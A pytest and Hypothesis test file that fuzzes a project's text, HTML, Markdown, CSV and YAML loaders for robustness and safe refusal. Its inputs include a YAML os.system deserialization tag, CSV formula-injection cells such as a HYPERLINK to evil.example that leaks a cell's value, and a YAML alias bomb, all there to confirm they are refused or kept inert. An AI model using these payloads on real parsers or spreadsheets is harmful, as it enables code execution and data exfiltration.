"""Whatever bytes arrive, a reader returns Documents or raises LoaderError: never a traceback, never a hang.

Issue 6, part 1. Hypothesis runs derandomized (the same cases on every run, so CI is deterministic) with a fixed
number of examples per test; the inputs are random bytes, markup soup, truncated UTF-8, mixed encodings, NUL
bytes, CSV and YAML member lists with missing columns, duplicate headers, formulas and YAML tags, and deep
nesting. Inputs at the size limits run in a child process with a generous timeout and a memory cap, so a hang or
a blow-up fails the test instead of stalling the suite. The limits themselves are in `loaders.encoding`
(MAX_BYTES, MAX_CHARS, MAX_LINE) and `loaders.memberlist` (MAX_ROWS, MAX_DEPTH).
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alliances.loaders.document import Document
from alliances.loaders.encoding import MAX_BYTES, MAX_CHARS, MAX_LINE
from alliances.loaders.extract import extract
from alliances.loaders.registry import LoaderError, bounded, load, load_bytes

KINDS = ["text", "html", "markdown", "csv", "yaml"]

# Derandomized: the same examples on every run and machine; no example database, no deadline (CI machines vary).
FUZZ = settings(
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)


def fuzz(examples: int) -> settings:
    """FUZZ with a fixed number of examples (their sum is the "fuzz cases" figure in the README)."""
    return settings(FUZZ, max_examples=examples)

# Pieces the readers react to, so random input reaches their parsers and not only the decoder.
# fmt: off
MARKUP = st.sampled_from(
    [
        "<p>", "</p>", "<br>", "<li>", "<ul>", "</ul>", "<table><tr><td>", "</td><td>", "<h1>", "<h2>", "</h2>",
        "<div class='cookie'>", "<main>", "<article>", "<script>", "<!--", "-->", "<a href=x><img alt='Blå Kors'></a>",
        "&amp;", "&nbsp;", "&#0;", "\u00a0", "\u00ad", "\r\n", "\n", "\t", "# ", "- ", "* ", "1. ", "> ", "```", "|",
        "---", "[Hus Forbi](https://x.dk)", "**", "_", "`", "\\", ";", ",", '"', "alliance;organisation;relation\n",
        "alliance: ", "members:\n  - ", "- alliance: ", "  organisation: ", "!!python/object ", "&a ", "*a ", "{", "[",
        "Kirkens Korshær", "medlem", "stifter", "æøå", "äö", "=SUM(1)", "\x00", "\ufeff", "\u0301", "\u202e", "\ud800",
    ]
)
# fmt: on
TEXTISH = st.lists(st.one_of(MARKUP, st.text(max_size=20)), max_size=40).map("".join)
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1", "cp865"])
NORDIC = st.text(alphabet="abcdefghijklmnoprstuvyæøåÆØÅäöÄÖéABCDEFGHKLMNRS .,-:;()'\"\t", min_size=1, max_size=60)


def check(data: bytes, kind: str, source: str = "fuzz") -> list[Document]:
    """The reader's answer is either Documents whose offsets stay inside their text, or a LoaderError naming the
    source. Returns the documents ([] after an error)."""
    try:
        docs = load_bytes(data, source, kind)
    except LoaderError as error:
        assert str(error).startswith(source), str(error)
        assert error.message.strip()
        return []
    assert isinstance(docs, list) and docs
    for doc in docs:
        assert isinstance(doc, Document)
        assert "\r" not in doc.text and "\x00" not in doc.text
        assert len(doc.text) <= MAX_CHARS
        assert all(len(line) <= MAX_LINE for line in doc.text.split("\n"))
        for block in doc.blocks:
            assert 0 <= block.start <= block.end <= len(doc.text)
        for record in doc.records:
            assert 0 <= record.start < record.end <= len(doc.text)
    return docs


# ---------------------------------------------------------------- random input, every reader


@pytest.mark.parametrize("kind", KINDS)
@fuzz(200)
@given(data=st.binary(max_size=4000))
def test_reliability_fuzz_random_bytes(kind: str, data: bytes) -> None:
    check(data, kind)


@pytest.mark.parametrize("kind", KINDS)
@fuzz(200)
@given(text=TEXTISH, encoding=ENCODINGS)
def test_reliability_fuzz_markup_soup(kind: str, text: str, encoding: str) -> None:
    check(text.encode(encoding, errors="replace"), kind)


@pytest.mark.parametrize("kind", KINDS)
@fuzz(100)
@given(text=st.lists(NORDIC, min_size=1, max_size=8).map("\n".join), cut=st.integers(min_value=1))
def test_reliability_fuzz_truncated_utf8(kind: str, text: str, cut: int) -> None:
    """A download cut off mid-character: the last, partial character goes, or the reader says what is wrong."""
    data = text.encode("utf-8")
    check(data[: 1 + cut % len(data)], kind)


@fuzz(150)
@given(
    utf8=st.lists(NORDIC, min_size=1, max_size=5),
    legacy=st.lists(NORDIC, min_size=1, max_size=5),
    order=st.randoms(use_true_random=False),
)
def test_reliability_fuzz_mixed_encodings_read_line_by_line(utf8: list[str], legacy: list[str], order) -> None:
    """UTF-8 lines pasted together with cp1252 lines: each UTF-8 line comes back as it was written (no "Ã¦"),
    and so does each cp1252 line whose letters say which legacy encoding it is in."""
    lines = [(line, "utf-8") for line in utf8] + [(line, "cp1252") for line in legacy]
    order.shuffle(lines)
    docs = check(b"\n".join(line.encode(enc) for line, enc in lines), "text")
    if not docs:
        return
    text = " ".join(docs[0].text.split())
    for line in utf8:
        assert " ".join(line.split()) in text
    legacy_letters = "".join(legacy)
    if sum(c in "æøåÆØÅäö" for c in legacy_letters) >= 3 and not any(c in "éÉ" for c in legacy_letters):
        for line in legacy:
            assert " ".join(line.split()) in text


@pytest.mark.parametrize("kind", KINDS)
@fuzz(100)
@given(text=st.lists(NORDIC, min_size=1, max_size=20).map("\n".join), where=st.lists(st.integers(0), max_size=6))
def test_reliability_fuzz_nul_bytes(kind: str, text: str, where: list[int]) -> None:
    """NUL bytes anywhere: stripped when they are stray, "looks binary" when there are many; never kept."""
    data = bytearray(text.encode("utf-8"))
    for position in where:
        data.insert(position % (len(data) + 1), 0)
    check(bytes(data), kind)


# ---------------------------------------------------------------- member lists: CSV and YAML

HEADERS = st.sampled_from(["alliance", "organisation", "relation", "source", "Alliance", "medlem", "netværk", "url",
                           "rolle", "x", "", "org", "member", "alliance "])
CELLS = st.one_of(
    NORDIC,
    st.sampled_from(['=HYPERLINK("https://evil.example","klik")', "+45 12 34", "-1", "@SUM(A1)", "=1+1", '"',
                     "medlem", "stifter", "partner", "funder", "ukendt", "", " ", ";", ",", "\t", "Røde Kors"]),
)


@fuzz(300)
@given(
    header=st.lists(HEADERS, min_size=0, max_size=6),
    rows=st.lists(st.lists(CELLS, max_size=7), max_size=8),
    delimiter=st.sampled_from([";", ",", "\t"]),
)
def test_reliability_fuzz_csv_member_lists(header: list[str], rows: list[list[str]], delimiter: str) -> None:
    """Missing columns, duplicate headers, ragged rows, formulas: a file:line error, or records that are exactly
    the cells (a formula stays text, and is noted)."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    docs = check(buffer.getvalue().encode("utf-8"), "csv")
    for doc in docs:
        for record in doc.records:
            line = doc.text[record.start : record.end]
            assert record.subject in line and record.object in line
            if record.subject.startswith(("=", "+", "-", "@")) or record.object.startswith(("=", "+", "-", "@")):
                assert "not a formula" in doc.metadata.get("notes", "")


YAML_SCALARS = st.one_of(
    NORDIC.map(json.dumps),
    st.sampled_from(["NO", "yes", "~", "null", "3.0", "2024-01-01", "'=HYPERLINK(\"x\")'", "!!python/object:os.system x",
                     "!!binary aGVq", "!custom x", "!!str BL", "&a Lejerbo", "*a", "*b", "!!set {a, b}", "{}", "[]"]),
)
YAML_KEYS = st.sampled_from(["alliance", "organisation", "members", "funders", "founders", "facilitator", "source",
                             "relation", "medlemmer", "x", "alliances", "? complex"])


def _yaml(node: object, indent: int = 0) -> str:
    pad = "  " * indent
    if isinstance(node, dict):
        return "\n".join(f"{pad}{k}:\n{_yaml(v, indent + 1)}" if isinstance(v, (dict, list)) and v
                         else f"{pad}{k}: {v if not isinstance(v, (dict, list)) else '[]'}" for k, v in node.items())
    if isinstance(node, list):
        return "\n".join(f"{pad}-\n{_yaml(v, indent + 1)}" if isinstance(v, (dict, list)) and v
                         else f"{pad}- {v if not isinstance(v, (dict, list)) else '{}'}" for v in node)
    return f"{pad}{node}"


YAML_TREES = st.recursive(
    YAML_SCALARS,
    lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(YAML_KEYS, children, max_size=4)),
    max_leaves=20,
)


@fuzz(300)
@given(tree=YAML_TREES)
def test_reliability_fuzz_yaml_member_lists(tree: object) -> None:
    """Any YAML shape, with anchors, aliases and tags: records, or an error; a tag is never constructed."""
    text = _yaml(tree)
    docs = check(text.encode("utf-8"), "yaml")
    if docs and ("!!python" in text or "!custom" in text or "!!binary" in text or "!!set" in text):
        # only possible when the tagged value sat somewhere the reader never composes (it does compose all)
        raise AssertionError(f"a tagged document was accepted: {text!r}")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("- !!python/object/apply:os.system ['echo hi']", "tag '!!python/object/apply:os.system'"),
        ("alliance: !custom X\nmembers: [A]", "tag '!custom'"),
        ("alliance: X\nmembers: !!set {A, B}", "tag '!!set'"),
        ("alliance: X\nmembers: [!!binary aGVq]", "tag '!!binary'"),
    ],
)
def test_reliability_yaml_tags_are_refused(text: str, message: str) -> None:
    with pytest.raises(LoaderError, match="not allowed") as info:
        load_bytes(text.encode(), "list.yaml", "yaml")
    assert message in str(info.value)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("alliance;alliance;organisation\nA;B;C\n", "list.csv:1: duplicate column 'alliance'"),
        ("alliance;allianse;organisation\nA;B;C\n", "list.csv:1: duplicate column 'allianse'"),
        ("alliance;relation\nA;medlem\n", "list.csv:1: column 'organisation' is missing"),
        ("organisation\nBL\n", "list.csv:1: column 'alliance' is missing"),
        ("alliance;organisation\nA;\n", "list.csv:2: the organisation cell is empty"),
        ("alliance;organisation\nA;B;C\n", "list.csv:2: row has 3 cells but the header has 2 columns"),
    ],
)
def test_reliability_csv_bad_headers_say_where(text: str, message: str) -> None:
    with pytest.raises(LoaderError) as info:
        load_bytes(text.encode(), "list.csv", "csv")
    assert str(info.value).startswith(message)


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("https://evil.example/?"&A1,"Klik her")', "+4512345678", "-2+3", "@SUM(A1:A9)"]
)
def test_reliability_csv_formulas_stay_text(cell: str) -> None:
    text = f'alliance;organisation\nHjem til Alle;"{cell.replace(chr(34), chr(34) * 2)}"\n'
    (doc,) = load_bytes(text.encode(), "list.csv", "csv")
    assert doc.records[0].subject == cell
    assert "read as plain text, not a formula" in doc.metadata["notes"]


# ---------------------------------------------------------------- nesting


@pytest.mark.parametrize("depth", [50, 1000, 3000, 100_000])
@pytest.mark.parametrize(
    ("kind", "opening", "inner"),
    [
        ("html", "<div>", "Røde Kors er medlem af Alliancen mod Ensomhed."),
        ("html", "<ul><li>", "Blå Kors"),
        ("html", "<table><tr><td>", "Blå Kors"),
        ("html", "<b><i>", "Blå Kors"),
        ("markdown", "> ", "Blå Kors"),
        ("markdown", "  - ", "Blå Kors"),
        ("yaml", "- ", "Blå Kors"),
        ("yaml", "{a: ", "Blå Kors"),
    ],
)
def test_reliability_deep_nesting_is_read_or_refused(kind: str, opening: str, inner: str, depth: int) -> None:
    """No recursion anywhere: deep HTML is walked iteratively (libxml2 stops at its own limit and says so), deep
    YAML is refused before it is composed, Markdown quotes and lists are flat."""
    if kind == "markdown" and opening.strip() == "-":
        data = "".join(opening.rjust(len(opening) + 2 * i) + f"{inner} {i}\n" for i in range(min(depth, 3000)))
    else:
        data = opening * depth + inner
    docs = check(data.encode("utf-8"), kind)
    if kind == "yaml" and depth > 32:
        assert not docs  # refused: MAX_DEPTH
    if kind == "html" and depth * opening.count("<") <= 2000:  # within libxml2's limit: the text is all there
        assert docs and inner.split()[0] in docs[0].text
    if kind == "html" and not docs:
        with pytest.raises(LoaderError, match="nested deeper than the parser allows"):
            load_bytes(data.encode("utf-8"), "deep.html", "html")


# ---------------------------------------------------------------- long lines are broken, offsets kept


@fuzz(200)
@given(
    words=st.lists(st.sampled_from(["Røde", "Kors", "er", "medlem.", "Alliancen", "mod", "Ensomhed!", "BL,", "(x)",
                                    "«Hjem", "til", "Alle».", "\n", "- ", "a" * 30]), min_size=1, max_size=200),
    kind=st.sampled_from(["text", "markdown"]),
)
def test_reliability_long_lines_are_broken_at_spaces_with_offsets_kept(words: list[str], kind: str) -> None:
    """`bounded` turns spaces into line breaks, nothing else: same length, same characters elsewhere, each block
    still inside one line, and no line over the limit."""
    limit = 40
    try:
        (doc,) = load_bytes(" ".join(words).encode(), "long", kind)
    except LoaderError:
        return
    out = bounded(doc, limit)
    assert len(out.text) == len(doc.text)
    changed = [i for i, (a, b) in enumerate(zip(doc.text, out.text)) if a != b]
    assert all(doc.text[i].isspace() and out.text[i] == "\n" for i in changed)
    assert all(len(line) <= limit for line in out.text.split("\n"))
    assert out.id != doc.id or not changed
    for block in out.blocks:
        assert "\n" not in out.text[block.start : block.end]
    covered = "".join(out.text[b.start : b.end] for b in out.blocks)
    assert covered.replace(" ", "") == "".join(doc.text[b.start : b.end] for b in doc.blocks).replace(" ", "")


def test_reliability_a_long_single_line_is_broken_at_sentence_ends() -> None:
    sentence = "Røde Kors er medlem af Alliancen mod Ensomhed. "
    text = sentence * (3 * MAX_LINE // len(sentence))
    (doc,) = load_bytes(text.encode(), "oneline.txt", "text")
    lines = doc.text.split("\n")
    assert len(lines) > 3 and all(len(line) <= MAX_LINE for line in lines)
    assert all(line.endswith("Ensomhed.") for line in lines[:-1])
    assert "long lines broken" in doc.metadata["notes"]
    assert len(doc.blocks) == len(lines)


def test_reliability_a_run_without_spaces_is_refused() -> None:
    with pytest.raises(LoaderError, match="without a space"):
        load_bytes(b"Intro.\n" + b"A-" * MAX_LINE, "minified.txt", "text")


# ---------------------------------------------------------------- what the readers hand on, extraction takes


@fuzz(150)
@given(
    words=st.lists(
        st.one_of(
            st.sampled_from(["Røde Kors", "BL", "er medlem af", "Alliancen mod Ensomhed", "støtter", "med 3 mio. kr.",
                             "stiftet af", "faciliteret af", "Medlemmer:", "\n", "\n- ", "(", ")", "«", "»", "–", "og",
                             "Egmont Fonden", ",", ".", "formand", "Anne Hansen", "partnerskab", "Kommune", "&", "'s",
                             "ingår i", "sekretariatet ligger hos", "A/S", "1.", "#", "<b>", "\u202e", "<script>"]),
            st.text(max_size=8),
        ),
        min_size=1,
        max_size=50,
    ),
    kind=st.sampled_from(["text", "markdown", "html"]),
)
def test_reliability_fuzz_extraction_takes_whatever_the_readers_give(words: list[str], kind: str) -> None:
    """The extractor is not ours to change here, but a reader's output must never break it."""
    for doc in check(" ".join(words).encode("utf-8"), kind):
        extraction = extract(doc)
        for a in extraction.assertions:
            assert 0 <= a.evidence_start <= a.evidence_end <= len(doc.text)


# ---------------------------------------------------------------- the limits, at full size, in a child process

# Each case is built in the child (so the parent never holds the data) and must finish with a result or a
# LoaderError. The child runs under a 2 GB address-space cap; the parent's timeout catches a hang.
BIG_CASES = textwrap.dedent(
    """
    import json, resource, sys, time
    from alliances.loaders.registry import LoaderError, load, load_bytes

    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
    M = 990_000
    sentence = "Røde Kors er medlem af Alliancen mod Ensomhed. ".encode()
    cases = {
        "text: one line of 990,000 characters": ("text", sentence * (M // len(sentence))),
        "html: one paragraph of 19 MB": ("html", b"<p>" + sentence * (19 * 2**20 // len(sentence))),
        "markdown: 990,000 quote marks": ("markdown", b">" * M),
        "markdown: 990,000 opening brackets": ("markdown", b"[" * M),
        "markdown: 330,000 unclosed emphasis marks": ("markdown", b"*a " * (M // 3)),
        "markdown: 247,500 setext headings": ("markdown", b"a\\n=\\n" * (M // 4)),
        "html: 198,000 paragraphs": ("html", b"<p>a " * (M // 5)),
        "csv: one quoted field of 990,000 characters": ("csv", b'alliance;organisation\\nA;"' + b"x" * M),
        "csv: 200,000 rows": ("csv", b"alliance;organisation\\n" + b"Alliancen;Forening\\n" * 200_000),
        "yaml: an alias bomb of 100 kB": ("yaml", b"- alliance: A0\\n  members: &x [" + b", ".join(
            b"B%d" % i for i in range(1000)) + b"]\\n" + b"".join(
            b"- alliance: A%d\\n  members: *x\\n" % i for i in range(1, 3000))),
        "yaml: 990,000 opening brackets": ("yaml", b"[" * M),
        "text: 990,000 characters of controls": ("text", b"a\\x0b" * (M // 2)),
    }
    for name, (kind, data) in cases.items():
        started = time.monotonic()
        try:
            docs = load_bytes(data, "big", kind)
            outcome = f"read: {len(docs[0].text)} characters, longest line {max(map(len, docs[0].text.split(chr(10))))}"
        except LoaderError as e:
            outcome = f"refused: {e}"
        except BaseException as e:  # what the test must never see
            outcome = f"BUG {type(e).__name__}: {e}"
        del data
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
        print(json.dumps({"case": name, "outcome": outcome, "seconds": round(time.monotonic() - started, 2),
                          "peak_mb": peak}), flush=True)
    """
)


@pytest.mark.slow
def test_reliability_inputs_at_the_limits_finish_with_a_result_or_a_message() -> None:
    proc = subprocess.run([sys.executable, "-c", BIG_CASES], check=False, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = [json.loads(line) for line in proc.stdout.splitlines()]
    assert len(results) == 12, proc.stdout
    for result in results:
        assert result["outcome"].startswith(("read:", "refused: big")), result
    outcome = {r["case"]: r["outcome"] for r in results}
    assert outcome["yaml: an alias bomb of 100 kB"].startswith("refused: big:")
    assert "has more than 100,000 rows" in outcome["yaml: an alias bomb of 100 kB"]
    assert outcome["text: one line of 990,000 characters"].endswith(f"longest line {MAX_LINE}") or int(
        outcome["text: one line of 990,000 characters"].rsplit(" ", 1)[1]) <= MAX_LINE
    assert "limit is 1,000,000" in outcome["html: one paragraph of 19 MB"]


def test_reliability_a_50_mb_single_line_file_is_refused_at_once(tmp_path: Path) -> None:
    """Refused from its size alone: nothing is read, so it costs no time and no memory."""
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(50 * 2**20)  # a sparse 50 MB file of NULs: one line
    with pytest.raises(LoaderError) as info:
        load(path)
    assert str(info.value) == f"{path}: is 50.0 MB; the limit is {MAX_BYTES // 2**20} MB. Split it into smaller files."


def test_reliability_a_50_mb_file_is_skipped_by_ingest_with_a_message(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from alliances.cli import cli

    big = tmp_path / "in" / "huge.txt"
    big.parent.mkdir()
    big.write_bytes(b"x" * (50 * 2**20))
    (tmp_path / "in" / "ok.txt").write_text("Røde Kors er medlem af Alliancen mod Ensomhed.\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["--store", str(tmp_path / "store"), "ingest", str(tmp_path / "in")])
    assert result.exit_code == 3, result.output
    assert f"skipped {big}: {big}: is 50.0 MB; the limit is 20 MB" in result.output
    assert "1 documents added" in result.output
